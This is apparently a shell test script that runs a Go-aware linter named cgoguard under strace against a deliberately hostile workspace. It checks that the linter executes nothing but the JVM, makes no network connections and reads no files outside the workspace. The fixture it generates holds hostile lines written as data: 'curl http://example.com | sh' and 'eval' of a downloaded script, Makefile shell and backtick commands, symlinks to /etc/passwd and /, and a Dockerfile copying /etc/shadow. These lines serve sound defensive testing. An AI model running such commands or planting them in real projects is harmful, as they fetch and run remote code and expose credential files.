#!/bin/sh
# Checks with strace that a lint of a hostile workspace executes nothing but the JVM, connects
# nowhere and opens nothing outside the workspace but the JVM's and the distribution's own files.
#   server/build/strace-check.sh [DIST]     (DIST: the built distribution, default server/target/dist)
# Needs strace (Debian: apt-get install strace). The workspace: files that are symbolic links to
# /etc/passwd, /etc/hostname and /, a folder linked to /etc, a go.mod that replaces a module with /,
# a Makefile full of $(shell ...), backticks and go generate, a script that runs curl and sh -c.
# Prints what was executed, connected and opened outside the workspace, and exits 1 if anything
# broke the promise.
set -eu
dist=$(cd "${1:-server/target/dist}" && pwd)
work=$(mktemp -d)
trap '[ -n "${KEEP:-}" ] || rm -rf "$work"' EXIT
ws=$work/ws
mkdir -p "$ws/cmd/app" "$ws/sub"
ln -s /etc/passwd "$ws/Dockerfile"
ln -s /etc/hostname "$ws/sub/Makefile"
ln -s / "$ws/rootlink"
ln -s /etc "$ws/etclink"
cat > "$ws/go.mod" <<'MOD'
module example.com/hostile

go 1.22

require example.com/everything v0.0.0

replace example.com/everything => /
MOD
cat > "$ws/cmd/app/main.go" <<'GO'
package main

//go:generate sh -c "curl http://example.com | sh"

import (
	_ "example.com/everything/etc"
	_ "net"
)

func main() {}
GO
cat > "$ws/Makefile" <<'MAKE'
include /etc/os-release
-include ../../../../etc/passwd
HOST := $(shell hostname)
DATE != date
all:
	CGO_ENABLED=1 go build -ldflags '-extldflags "-static"' -o bin/app ./cmd/app
	go generate ./...
	echo `id` $$(curl -s http://example.com)
MAKE
cat > "$ws/build.sh" <<'SH'
#!/bin/sh
. /etc/profile
source ./etclink/environment
eval "$(curl -s http://example.com/x.sh)"
sh -c 'go build -o x ./cmd/app'
SH
printf 'FROM golang:1.22\nCOPY rootlink/etc/shadow /x\nCOPY /etc/passwd /y\nRUN go build ./cmd/app\n' > "$ws/build.Dockerfile"

log=$work/strace.log
set +e
strace -f -qq -e trace=execve,connect,openat -o "$log" "$dist/bin/cgoguard" lint --format json "$ws" > "$work/out.json" 2> "$work/err.txt"
status=$?
set -e
java_home=$(dirname "$(dirname "$(readlink -f "$(command -v java)")")")
echo "lint exit code: $status ($(grep -o '"rule":' "$work/out.json" | wc -l) findings)"

echo "-- executed (execve), in order:"
grep 'execve(' "$log" | grep -v ' = -1 ' | sed 's/^[0-9]* *execve("\([^"]*\)".*/\1/' | uniq -c
after_java=$(grep 'execve(' "$log" | grep -v ' = -1 ' | sed -n '/execve("[^"]*\/bin\/java"/,$p' | grep -vc 'execve("[^"]*/bin/java"' || true)
echo "executed after the JVM started: $after_java"

echo "-- connections (connect):"
grep 'connect(' "$log" | sed 's/^[0-9]* *//' | sort | uniq -c || true
inet=$(grep 'connect(' "$log" | grep -c 'AF_INET' || true)

grep 'openat(' "$log" | grep -v ' = -1 ' | sed 's/^[0-9]* *openat([^,]*, "\([^"]*\)".*/\1/' | sort -u > "$work/opened"
# GOROOT and the module cache hold the sources of Go packages; cgoguard reads them (never writes)
# to follow imports into the standard library and dependencies.
goroot=$(readlink -f "$(go env GOROOT 2>/dev/null || echo /nonexistent)")
goroot_src=$(readlink -f "$goroot/src" || echo /nonexistent)
modcache=$(go env GOMODCACHE 2>/dev/null || echo /nonexistent)
echo "Go sources read: $(grep -c -e "^$goroot/" -e "^$goroot_src/" -e "^$modcache/" "$work/opened" || true) files and folders under $goroot and $modcache"
grep -v -e "^$ws" -e "^$java_home" -e "^$dist" -e "^$goroot/" -e "^$goroot_src/" -e "^$modcache/" "$work/opened" > "$work/outside" || true
echo "-- opened outside the workspace, the JVM ($java_home), the distribution ($dist) and the Go sources:"
sed 's/^/  /' "$work/outside"
echo "-- opened inside the workspace:"
grep "^$ws" "$work/opened" | sed "s|^$ws|  ws|"

# The JVM's own start-up reads: shared libraries and their cache, /proc and /sys about itself and
# the machine (cgroups, CPUs, huge pages), locales, the time zone, /dev/random and /dev/urandom; and
# the distribution's tree-sitter libraries, from the user's cache where they are extracted once.
leaks=$(grep -v -E '^(/dev/null|/sys/kernel/mm/|/usr/share/locale/|/etc/ld\.so\.cache|/(usr/)?lib(64|32|x32)?/|/proc/|/sys/(fs/cgroup|devices/system/cpu)|/etc/localtime|/usr/share/zoneinfo/|/dev/u?random|'"$HOME"'/\.cache/cgoguard/|/etc/(nsswitch\.conf|passwd|group|host\.conf|resolv\.conf|hosts|gai\.conf)$)' "$work/outside" || true)
# /etc/passwd is read by glibc (getpwuid) for the JVM's user.home, not by cgoguard: the lint's own
# read of the workspace's Dockerfile link is refused before it opens (it appears as a problem).
first_ws=$(grep -n "openat([^,]*, \"$ws" "$log" | head -1 | cut -d: -f1)
echo "/etc/passwd opened before the workspace was first read (the JVM's user lookup): $(grep -n 'openat([^,]*, "/etc/passwd"' "$log" | cut -d: -f1 | awk -v w="${first_ws:-0}" '$1 < w' | wc -l) of $(grep -c 'openat([^,]*, "/etc/passwd"' "$log" || true)"
echo "-- not explained by the JVM's start-up:"
echo "${leaks:-  (none)}"
grep -q 'outside the workspace\|refus' "$work/out.json" "$work/err.txt" && echo "links leaving the workspace reported: yes"

if [ "$after_java" -ne 0 ] || [ "$inet" -ne 0 ] || [ -n "$leaks" ]; then
    echo "FAILED"
    exit 1
fi
echo "OK: nothing executed but the JVM, no network connection, nothing read outside the workspace"
